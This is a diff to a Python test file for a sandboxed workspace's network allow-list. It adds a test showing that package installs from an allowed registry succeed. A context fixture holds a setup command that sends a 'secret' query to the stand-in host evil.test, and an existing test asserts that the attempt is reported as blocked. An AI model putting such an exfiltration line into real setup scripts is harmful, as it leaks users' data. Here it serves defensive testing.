@@ -2,9 +2,15 @@
 
 from __future__ import annotations
 
+import contextlib
+import ipaddress
+import os
+
 import pytest
 
-from tests.support.house import FINISH, FIX, PROJECT, House, script
+from app.workspace.clients import Clients
+from app.workspace.egress_addresses import Addresses, system_lookup
+from tests.support.house import FINISH, FIX, PROJECT, House, open_house, script
 
 pytestmark = pytest.mark.asyncio(loop_scope="session")
 
@@ -19,6 +25,13 @@ setup:
     python3 -c "import urllib.request as u; u.urlopen('https://evil.test/?secret')" || true
 network: {allow: [files.example]}
 verify: ["python3 -c 'import calc; assert calc.add(2, 3) == 5'"]
+"""
+INSTALLS = b"""
+setup:
+  - python3 -m venv --without-pip .venv
+  - python3 -m pip install -q --target .venv/lib six
+network: {allow: [python]}
+verify: ["PYTHONPATH=.venv/lib python3 -c 'import six, calc; assert calc.add(2, 3) == 5'"]
 """
 
 
@@ -68,3 +81,26 @@ async def test_what_set_up_tried_to_reach_is_told(house: House) -> None:
     await subject.label()
     await subject.settled()
     assert "`evil.test`: the host is not on the allow-list" in subject.status
+
+
+async def test_a_package_is_installed_and_the_tests_have_it() -> None:
+    networks = await where_packages_are()
+    async with open_house(HONK_EGRESS_NETWORKS=networks) as house:
+        subject = await house.subject(files=files(INSTALLS), plays=script(FIX, FINISH))
+        await subject.label()
+        await subject.settled()
+        assert subject.check.conclusion == "success", subject.status
+        assert "tried to reach" not in subject.status
+
+
+async def where_packages_are() -> str:
+    """The networks that the operator of this machine would allow for its own registry."""
+    found: list[str] = []
+    for _ in range(2):  # what the index hands out from elsewhere shows once it can be asked
+        addresses = Addresses(ipaddress.ip_network(address) for address in found)
+        for rule in (await Clients(addresses).resolve(["python"])).rules:
+            with contextlib.suppress(OSError):
+                found += await system_lookup(rule.pattern)
+    if not found:
+        (pytest.fail if os.environ.get("CI") == "true" else pytest.skip)("no index is reachable")
+    return ",".join(dict.fromkeys(found))
